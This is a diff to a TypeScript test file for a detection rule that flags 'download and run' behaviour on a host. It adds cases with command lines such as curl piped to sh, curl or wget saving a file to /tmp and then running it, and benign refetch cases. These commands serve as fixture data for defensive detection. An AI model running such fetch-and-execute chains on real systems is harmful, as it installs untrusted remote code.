@@ -4,8 +4,8 @@ import { downloadAndRunBehaviour } from './download-and-run.ts';
 import { hiddenProgramBehaviour } from './hidden-program.ts';
 import { findingsOf, program, START_MS, starts } from './testing.ts';
 
-function writes(process: HostProcessWithParents, path: string): HostEvent {
-  return { type: 'file-written', timeMs: START_MS, path, process };
+function writes(process: HostProcessWithParents, path: string, timeMs = START_MS): HostEvent {
+  return { type: 'file-written', timeMs, path, process };
 }
 
 const SHELL = '/usr/bin/bash';
@@ -44,6 +44,31 @@ describe('download and run', () => {
       ],
       'high',
     ],
+    [
+      'curl | sh where sh was the first to run',
+      [
+        starts(program('/usr/bin/sh', [SHELL])),
+        starts(program('/usr/bin/curl -fsSL http://203.0.113.5/a', [SHELL]), START_MS + 1),
+      ],
+      'medium',
+    ],
+    [
+      'a fetched script of which we hear only once it runs',
+      [
+        starts(program('/usr/bin/bash /tmp/a.sh', [SHELL])),
+        writes(program('/usr/bin/curl -o /tmp/a.sh http://a', [SHELL]), '/tmp/a.sh', START_MS + 20),
+      ],
+      'high',
+    ],
+    [
+      'a fetched program that got its name at the end, of which we hear only once it runs',
+      [
+        writes(program('/usr/bin/wget http://a', [SHELL]), '/tmp/a.part'),
+        starts(program('/tmp/a', [SHELL]), START_MS + 10),
+        { type: 'file-renamed', timeMs: START_MS + 20, previousPath: '/tmp/a.part', path: '/tmp/a' },
+      ],
+      'high',
+    ],
   ];
   for (const [name, events, severity] of attacks) {
     it(`tells of ${name}`, () =>
@@ -68,6 +93,32 @@ describe('download and run', () => {
       [
         writes(program('/usr/bin/curl -o /home/anna/a.sh http://a'), '/home/anna/a.sh'),
         starts(program('/usr/bin/bash /home/anna/a.sh'), START_MS + 7_200_000),
+      ],
+    ],
+    [
+      'a script that is fetched again after it ran',
+      [
+        starts(program('/usr/bin/bash /home/anna/a.sh', [SHELL])),
+        writes(program('/usr/bin/curl -o /home/anna/a.sh http://a', [SHELL]), '/home/anna/a.sh', START_MS + 2_000),
+      ],
+    ],
+    [
+      'a script that fetches its own next version',
+      [
+        starts(program('/usr/bin/bash /home/anna/a.sh', [SHELL])),
+        writes(
+          program('/usr/bin/curl -o /home/anna/a.sh http://a', ['/usr/bin/bash /home/anna/a.sh', SHELL]),
+          '/home/anna/a.sh',
+          START_MS + 20,
+        ),
+      ],
+    ],
+    [
+      'a script from a pipe, and then a download',
+      [
+        starts(program('/usr/bin/sh', [SHELL])),
+        starts(program('/usr/bin/curl -s http://a', [SHELL]), START_MS + 30),
+        starts(program('/usr/bin/jq .x', [SHELL]), START_MS + 30),
       ],
     ],
     [
